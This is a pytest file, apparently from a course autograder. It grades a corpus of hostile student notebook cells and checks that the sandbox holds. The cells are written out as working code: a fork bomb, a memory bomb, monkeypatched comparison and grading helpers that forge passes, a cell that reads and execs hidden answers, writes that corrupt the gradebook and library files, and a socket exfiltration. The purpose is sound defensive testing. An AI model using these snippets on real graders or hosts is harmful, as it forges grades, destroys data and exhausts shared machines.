"""A hostile corpus, graded for real: submissions that attack the grader, each added to the
untouched release (it must score 0) and, for the ones that could forge points, to carol's partly
wrong submission (it must not score more than carol does). Every case also checks that the other
students' grades are unchanged and that nothing outside the submission changed.

The unit is 01, whose hidden checks run in the grader's process (``autograder/checks.py``) while
the kernel runs in its bubblewrap sandbox (``autograder/sandbox.py``); one more case, a forbidden
library call hidden behind an alias and a ``try``, is unit 02's. The cases that rely on the sandbox
are skipped, with the reason, where bubblewrap cannot run.
"""

from __future__ import annotations

import copy
import hashlib
import io
import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from autograder import checks, grade, notebooks, samples, sandbox

pytestmark = pytest.mark.slow

UNIT = "01_ngrams"
ROOT = notebooks.ROOT
NO_SANDBOX = sandbox.unavailable_reason()
needs_sandbox = pytest.mark.skipif(NO_SANDBOX is not None,
                                   reason=f"needs bubblewrap ({NO_SANDBOX}); apt-get install bubblewrap")

CANARY = "llmcourse-hostile-canary"   # in the command line of processes a fork bomb leaves behind

# Each attack is one code cell added after the notebook's imports, as a student may add cells.
ATTACKS: dict[str, str] = {
    "cell_loop": "while True:\n    pass",
    "sys_exit": "import sys\nsys.exit(0)",
    "os_exit": "import os\nos._exit(1)",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "memory_bomb": "blocks = []\nwhile True:\n    blocks.append(bytearray(64 << 20))\n    blocks[-1][::4096] = b'x' * len(blocks[-1][::4096])",
    "fork_bomb": (
        "import os, time, sys\n"
        "children = 0\n"
        "try:\n"
        "    for _ in range(100_000):\n"
        "        if os.fork() == 0:\n"
        f"            sys.argv = ['{CANARY}']\n"
        f"            os.execvp('sleep', ['sleep', '600', '{CANARY}'])\n"
        "        children += 1\n"
        "except OSError as err:\n"
        "    print('fork failed after', children, 'children:', err)\n"),
    "huge_output": "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * (1 << 20))\n    sys.stdout.flush()",
    "patched_comparisons": (
        "import torch, numpy, numpy.testing, math\n"
        "torch.allclose = lambda *a, **k: True\n"
        "torch.equal = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
        "math.isclose = lambda *a, **k: True\n"),
    "patched_helpers": (
        "import llmcourse.grading as g\n"
        "class _Pass:\n"
        "    def __getattr__(self, name):\n"
        "        return lambda *a, **k: None\n"
        "g.hidden_tests = lambda unit: _Pass()\n"
        "g.assert_close = g.assert_equal = lambda *a, **k: None\n"
        "assert_close = assert_equal = lambda *a, **k: None\n"),
    "rewrites_later_cells": (
        "ip = get_ipython()\n"
        "ip.input_transformers_post.append(lambda lines: ['pass\\n'])\n"),
    "silenced_traceback": (
        "import sys\n"
        "ip = get_ipython()\n"
        "ip.showtraceback = lambda *a, **k: None\n"
        "ip._showtraceback = lambda *a, **k: None\n"
        "sys.excepthook = lambda *a: None\n"),
    "reads_answers": (
        "import json, pathlib, llmcourse\n"
        "found = []\n"
        "package = pathlib.Path(llmcourse.__file__).resolve()\n"
        "for root in {*package.parents, pathlib.Path.cwd(), *pathlib.Path.cwd().parents}:\n"
        "    for rel in ('solutions/01_ngrams/01_ngrams.ipynb', 'autograder/hidden/unit01_ngrams.py',\n"
        "                'autograder/references/unit01_ngrams.py', 'references/unit01_ngrams.py'):\n"
        "        if (root / rel).is_file():\n"
        "            found.append(root / rel)\n"
        "print('FOUND', [str(p) for p in found])\n"
        "stolen = ''\n"
        "for p in found:\n"
        "    if p.suffix == '.py':\n"
        "        stolen += p.read_text() + '\\n'\n"
        "    else:\n"
        "        stolen += '\\n'.join(''.join(c['source']) for c in json.loads(p.read_text())['cells']\n"
        "                           if c['cell_type'] == 'code' and 'BEGIN SOLUTION' in ''.join(c['source']))\n"
        "if stolen:  # after every later cell, put the stolen answers back over the stubs\n"
        "    get_ipython().events.register('post_run_cell', lambda result: exec(stolen, globals()))\n"),
    "writes_outside": (
        "import os, pathlib, site, llmcourse, nbgrader\n"
        "targets = [pathlib.Path(llmcourse.__file__), pathlib.Path(nbgrader.__file__)]\n"
        "for root in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:\n"
        "    targets += [root / 'gradebook.db', root / 'grades.csv', root / 'autograder' / 'gradebook.db']\n"
        "    targets += list(root.glob('*/*/*.ipynb'))[:50]\n"
        "state = os.environ.get('LLMCOURSE_GRADING_DIR')\n"
        "if state:\n"
        "    targets.append(pathlib.Path(state) / 'gradebook.db')\n"
        "written = []\n"
        "for t in targets:\n"
        "    if t.resolve().parent == pathlib.Path.cwd().resolve():\n"
        "        continue\n"
        "    try:\n"
        "        with open(t, 'r+b') as f:\n"
        "            f.write(b'pwned')\n"
        "        written.append(str(t))\n"
        "    except OSError:\n"
        "        pass\n"
        "print('WROTE', written)\n"),
    "network": (
        "import socket\n"
        "try:\n"
        "    s = socket.create_connection(('127.0.0.1', PORT), timeout=3)\n"
        "    s.sendall(b'stolen answers')\n"
        "    print('NET-CONNECTED')\n"
        "except OSError as err:\n"
        "    print('NET-BLOCKED', err)\n"),
}
# The attacks that could forge points: added to carol's submission, they must not raise her score.
FORGERS = ["patched_comparisons", "patched_helpers", "rewrites_later_cells", "silenced_traceback",
           "reads_answers"]
SANDBOX_CASES = {"memory_bomb", "fork_bomb", "reads_answers", "writes_outside", "network"}
# How each attack must show in the gradebook: a status (prefix) and, for a graded run, a note.
EXPECTED_STATUS = {
    "os_exit": "kernel died", "segfault": "kernel died", "memory_bomb": "memory limit",
}


def _with_attack(nb: dict, code: str) -> dict:
    nb = copy.deepcopy(nb)
    first_code = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code")
    nb["cells"].insert(first_code + 1, {"cell_type": "code", "execution_count": None, "metadata": {},
                                        "id": "student-added-cell",
                                        "outputs": [], "source": code})
    return nb


def _digest(paths) -> dict[str, str]:
    out = {}
    for path in paths:
        files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file()) if path.exists() else []
        for f in files:
            out[str(f)] = hashlib.sha256(f.read_bytes()).hexdigest()
    return out


def _guarded_files() -> list[Path]:
    import nbgrader

    import llmcourse

    return [ROOT / "solutions", ROOT / "autograder" / "hidden", ROOT / "autograder" / "references",
            Path(llmcourse.__file__), Path(nbgrader.__file__)]


class _Listener:
    """A TCP server on the grader's loopback that records whether anything reached it."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(100) or b"<connected>")
            except OSError:
                self.received.append(b"<connected>")
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.server.close()


def _leftover_processes() -> list[str]:
    out = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if CANARY in line and "ps -eo" not in line]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Grade the corpus once: every attack on the release (bob) and the forgers on carol, between
    two honest controls; with short limits so the loops and bombs end quickly."""
    base = tmp_path_factory.mktemp("hostile")
    state = base / "course" / "state"          # the grading state lies two folders under `base`
    state.mkdir(parents=True)
    other_course = base / "gradebook.db"       # another course's gradebook, upwards of the state
    other_course.write_bytes(b"another course's gradebook")
    folder = base / "submissions"
    listener = _Listener()
    release = notebooks.load(notebooks.release_notebook(UNIT))
    alice = samples.answered(UNIT)
    carol = samples.with_mistakes(samples.answered(UNIT, samples.CAROL_SKIPS_WRITTEN), UNIT)

    def put(student: str, nb: dict | None, name: str = f"{UNIT}.ipynb", raw: bytes | None = None):
        path = folder / student / UNIT / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw if raw is not None else json.dumps(nb, indent=1).encode())
        return path

    put("aa_control", alice)
    for case, code in ATTACKS.items():
        if case in SANDBOX_CASES and NO_SANDBOX:
            continue  # without the sandbox these would really write the venv or fork unbounded
        put(f"bob_{case}", _with_attack(release, code.replace("PORT", str(listener.port))))
    for case in FORGERS:
        if case in SANDBOX_CASES and NO_SANDBOX:
            continue
        put(f"carol_{case}", _with_attack(carol, ATTACKS[case]))
    put("carol_plain", carol)
    put("empty_file", None, raw=b"")
    put("wrong_name", alice, name="my_homework.ipynb")
    extra = put("extra_files", alice)
    (extra.parent / "helper.py").write_text("raise SystemExit('never imported')\n")
    (extra.parent / "data.bin").write_bytes(os.urandom(1 << 16))
    put("zz_control", alice)

    guarded = _digest(_guarded_files())
    env = {"LLMCOURSE_GRADING_DIR": str(state), "LLMCOURSE_CELL_TIMEOUT": "15",
           "LLMCOURSE_MEMORY_LIMIT_GB": "1.5", "LLMCOURSE_PROCESS_LIMIT": "200",
           "LLMCOURSE_AUTOGRADER_ROOT": str(ROOT)}
    saved = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    out = io.StringIO()
    try:
        outcomes = grade.autograde_folder(folder, only=UNIT, csv_path=state / "grades.csv", out=out,
                                          timeout_s=240, workers=2)
    finally:
        listener.close()
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
    rows = {o.student: o for o in outcomes}
    return {"rows": rows, "console": out.getvalue(), "state": state, "listener": listener,
            "guarded_before": guarded, "guarded_after": _digest(_guarded_files()),
            "other_course": other_course.read_bytes(), "leftovers": _leftover_processes(),
            "full": rows["aa_control"].auto_max}


def _output_of(state: Path, student: str) -> str:
    nb = notebooks.load(state / "autograded" / student / UNIT / f"{UNIT}.ipynb")
    return "".join(str(o.get("text", "")) + str(o.get("evalue", "")) for c in nb["cells"]
                   for o in c.get("outputs", []))


def test_honest_controls_keep_full_marks(hostile):
    for control in ("aa_control", "zz_control", "extra_files"):
        row = hostile["rows"][control]
        assert row.auto_score == row.auto_max == hostile["full"] > 0, row
        assert row.bonus == sum(notebooks.bonus_points(UNIT).values()), row


def test_gradebook_rows_of_other_students_are_intact(hostile):
    """The gradebook written during the run still holds the first control's grade, re-read at the
    end (an attack on the gradebook would have lost it)."""
    from nbgrader.api import Gradebook

    from autograder.api import load_config

    os.environ["LLMCOURSE_GRADING_DIR"] = str(hostile["state"])
    try:
        cfg = load_config()
        with Gradebook(cfg.CourseDirectory.db_url, cfg.CourseDirectory.course_id) as gb:
            sub = gb.find_submission(UNIT, "aa_control")
            assert float(sub.code_score) == hostile["full"] + sum(notebooks.bonus_points(UNIT).values())
            carol = hostile["rows"]["carol_plain"]
            assert float(gb.find_submission(UNIT, "carol_plain").code_score) == carol.auto_score + carol.bonus
    finally:
        os.environ.pop("LLMCOURSE_GRADING_DIR", None)


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_attack_on_the_release_scores_zero_with_a_clear_status(hostile, case):
    if case in SANDBOX_CASES and NO_SANDBOX:
        pytest.skip(f"needs bubblewrap ({NO_SANDBOX})")
    row = hostile["rows"][f"bob_{case}"]
    expected = EXPECTED_STATUS.get(case)
    if expected:
        assert row.status.startswith(expected), row
        assert row.score is None, "a submission that could not be graded shows no score, not a 0"
    else:
        assert row.status.startswith(grade.STATUS_GRADED), row
        assert row.auto_score == 0 and row.bonus == 0, row


@pytest.mark.parametrize("case", FORGERS)
def test_forging_attack_does_not_raise_a_score(hostile, case):
    if case in SANDBOX_CASES and NO_SANDBOX:
        pytest.skip(f"needs bubblewrap ({NO_SANDBOX})")
    plain = hostile["rows"]["carol_plain"]
    row = hostile["rows"][f"carol_{case}"]
    assert plain.auto_score == plain.auto_max - samples.CAROL_LOSES[UNIT]
    assert row.auto_score is not None and row.auto_score <= plain.auto_score, row


@needs_sandbox
def test_tampered_cells_are_overruled_and_said(hostile):
    """The input transformer turns every later cell into `pass`, which nbgrader scores as passed:
    the grader's own comparison overrules those cells, and the gradebook row says so."""
    row = hostile["rows"]["bob_rewrites_later_cells"]
    assert any("not in the grader's own comparison" in note for note in row.notes), row


@needs_sandbox
def test_answers_hidden_tests_and_references_are_not_readable(hostile):
    assert "FOUND []" in _output_of(hostile["state"], "bob_reads_answers")


@needs_sandbox
def test_nothing_outside_the_submission_changed(hostile):
    assert hostile["guarded_after"] == hostile["guarded_before"]
    assert hostile["other_course"] == b"another course's gradebook"
    assert "WROTE []" in _output_of(hostile["state"], "bob_writes_outside")


@needs_sandbox
def test_no_network_from_the_kernel(hostile):
    assert hostile["listener"].received == []
    assert "NET-BLOCKED" in _output_of(hostile["state"], "bob_network")


@needs_sandbox
def test_fork_bomb_hits_the_process_limit_and_leaves_nothing_running(hostile):
    row = hostile["rows"]["bob_fork_bomb"]
    assert "fork failed after" in _output_of(hostile["state"], "bob_fork_bomb")
    assert any("process limit" in n for n in row.notes) or not Path("/sys/fs/cgroup/pids").is_dir(), row
    assert hostile["leftovers"] == [], "processes of the kernel outlived it"


def test_huge_output_is_cut(hostile):
    row = hostile["rows"]["bob_huge_output"]
    autograded = hostile["state"] / "autograded" / "bob_huge_output" / UNIT / f"{UNIT}.ipynb"
    assert autograded.stat().st_size < 5 << 20, "100 MB of output must not be kept"
    assert row.status.startswith(grade.STATUS_GRADED)


def test_broken_files_get_their_own_status(hostile):
    rows = hostile["rows"]
    assert rows["empty_file"].status.startswith("corrupt notebook") and rows["empty_file"].score is None
    assert rows["wrong_name"].status.startswith("missing notebook") and rows["wrong_name"].score is None


def test_infinite_loop_and_exit_are_graded(hostile):
    for case in ("cell_loop", "sys_exit"):
        row = hostile["rows"][f"bob_{case}"]
        assert row.status.startswith(grade.STATUS_GRADED) and row.auto_score == 0, row
    assert any("time limit" in n for n in hostile["rows"]["bob_cell_loop"].notes)


def test_csv_warns_when_unsandboxed(hostile):
    csv = (hostile["state"] / "grades.csv").read_text()
    if NO_SANDBOX:
        assert grade.UNSANDBOXED in csv and "WARNING: bubblewrap" in hostile["console"]
    else:
        assert grade.UNSANDBOXED not in csv


# --- a forbidden library call hidden from the checks (unit 02, whose checks forbid F.one_hot) ---------

FORBID_UNIT = "02_tokenization"
# one_hot through an alias made before grading, retried past the first ForbiddenCallError, and the
# error swallowed when the retry fails too: the kernel's guard still sees the call.
HIDDEN_ONE_HOT = (
    "import functools\n"
    "import torch.nn.functional as _functional\n"
    "_library_one_hot = functools.partial(_functional.one_hot)\n"
    "\n"
    "def one_hot(ids: torch.Tensor, vocab_size: int) -> torch.Tensor:\n"
    "    for attempt in (_library_one_hot, _functional.one_hot):\n"
    "        try:\n"
    "            return attempt(ids, vocab_size).to(torch.float32)\n"
    "        except BaseException:\n"
    "            pass\n"
    "    return (ids.unsqueeze(-1) == torch.arange(vocab_size, device=ids.device)).to(torch.float32)\n"
)


@pytest.fixture(scope="module")
def forbidden(tmp_path_factory):
    """Alice's unit 02, and the same with one_hot calling the library's through an alias."""
    base = tmp_path_factory.mktemp("forbidden")
    state, folder = base / "state", base / "submissions"
    state.mkdir()
    alice = samples.answered(FORBID_UNIT)

    def with_hidden_one_hot(nb):
        cheat = copy.deepcopy(nb)
        cell = next(c for c in cheat["cells"] if "def one_hot(" in notebooks.source(c))
        cell["source"] = HIDDEN_ONE_HOT
        return cheat

    release = notebooks.load(notebooks.release_notebook(FORBID_UNIT))
    for student, nb in (("alice", alice), ("bob", with_hidden_one_hot(release)),
                        ("mallory", with_hidden_one_hot(alice))):
        path = folder / student / FORBID_UNIT / f"{FORBID_UNIT}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps(nb, indent=1))
    guarded = _digest(_guarded_files())
    os.environ["LLMCOURSE_GRADING_DIR"] = str(state)
    try:
        outcomes = grade.autograde_folder(folder, only=FORBID_UNIT, csv_path=state / "grades.csv",
                                          out=io.StringIO(), workers=2)
    finally:
        os.environ.pop("LLMCOURSE_GRADING_DIR", None)
    return {"rows": {o.student: o for o in outcomes}, "guarded": (guarded, _digest(_guarded_files()))}


def test_a_forbidden_call_behind_an_alias_and_a_try_costs_its_cell(forbidden):
    """The fallback computes the right one-hot vectors, but the library's one_hot was called: the
    cell of check_one_hot (and only it) loses its points, though its visible test passed."""
    cells = checks.checks_by_cell(FORBID_UNIT)
    points = sum(float(notebooks.nbgrader_meta(c).get("points", 0))
                 for c in notebooks.load(notebooks.solution_notebook(FORBID_UNIT))["cells"]
                 if cells.get(notebooks.nbgrader_meta(c).get("grade_id")) == "check_one_hot")
    rows = forbidden["rows"]
    alice, bob, mallory = rows["alice"], rows["bob"], rows["mallory"]
    assert points > 0 and alice.auto_score == alice.auto_max, "the other student keeps full marks"
    assert mallory.auto_score == alice.auto_score - points and mallory.status.startswith("needs manual"), mallory
    assert bob.auto_score == 0 and bob.status == "graded", "added to the untouched release it earns nothing"
    before, after = forbidden["guarded"]
    assert before == after, "nothing outside the submissions changed"


def test_which_units_are_graded_outside_the_kernel():
    """Every unit but 06 (whose train check lends its own optimizer and checkpoints) is ported."""
    outside = {u for u in notebooks.units() if checks.runs_outside_the_kernel(u)}
    assert outside == set(notebooks.units()) - {"06_training"}


def test_checks_of_unit01_run_outside_the_kernel():
    assert checks.runs_outside_the_kernel(UNIT)
    assert set(checks.checks_by_cell(UNIT).values()) == {n for n in dir(checks.hidden_module(UNIT))
                                                         if n.startswith("check_")}


if __name__ == "__main__":
    sys.exit(pytest.main([__file__, "-q"]))
